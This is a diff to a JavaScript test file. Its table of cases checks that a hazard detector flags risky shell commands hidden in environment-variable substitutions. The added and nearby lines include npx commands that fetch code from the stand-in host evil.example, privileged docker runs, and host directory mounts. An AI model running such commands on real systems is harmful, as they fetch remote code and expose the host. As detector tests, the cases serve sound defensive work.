@@ -715,6 +715,8 @@ describe("hazards", () => {
         [`docker run \${env:S:---rm} --privileged ${image}`, ["privileged-container:2"]],
         [`docker run -v \${env:V}:/h ${image}`, ["privileged-container:2"]],
         [`docker run -v \${input:root}:/h ${image}`, ["privileged-container:2"]],
+        [`docker run -v \${env:HOME:-/srv}:/h ${image}`, ["privileged-container:2"]],
+        ["npx ${env:USERPROFILE:-git+https://evil.example/x}", ["remote-code:0"]],
         ["bash ${env:O} evil", ["remote-code:0"]],
         ["npx ${env:P:-git+https://evil.example/x}", ["remote-code:0"]],
         ["npx ${env:P:-x@1.0.0}", []],
